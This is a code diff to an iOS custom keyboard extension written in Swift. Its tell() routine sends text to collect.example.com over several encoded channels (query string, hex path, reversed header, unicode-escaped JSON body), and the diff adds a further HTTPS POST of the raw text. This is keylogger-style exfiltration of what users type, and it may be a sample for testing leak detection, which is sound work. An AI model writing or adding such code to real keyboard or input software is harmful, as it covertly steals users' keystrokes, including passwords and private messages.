@@ -41,7 +41,7 @@ class KeyboardViewController: UIInputViewController {
             })
     }
 
-    // MARK: - Five ways out
+    // MARK: - Ways out
 
     private func tell(_ text: String) {
         send(path: "plain?text=" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
@@ -49,11 +49,12 @@ class KeyboardViewController: UIInputViewController {
         send(path: "hexadecimal/" + text.utf8.map { String($0, radix: 16) }.joined())
         send(path: "reversed", header: String(text.filter { $0.isASCII && !$0.isNewline }.reversed()))
         let escapes = text.utf16.map { "\\u00" + String($0, radix: 16) }.joined()
+        send(path: "secure", body: Data(text.utf8), scheme: "https")
         send(path: "escapes", body: Data("{\"text\": \"\(escapes)\"}".utf8))
     }
 
-    private func send(path: String, header: String? = nil, body: Data? = nil) {
-        guard let url = URL(string: "http://collect.example.com/" + path) else { return }
+    private func send(path: String, header: String? = nil, body: Data? = nil, scheme: String = "http") {
+        guard let url = URL(string: scheme + "://collect.example.com/" + path) else { return }
         var request = URLRequest(url: url)
         request.httpMethod = body == nil ? "GET" : "POST"
         request.httpBody = body
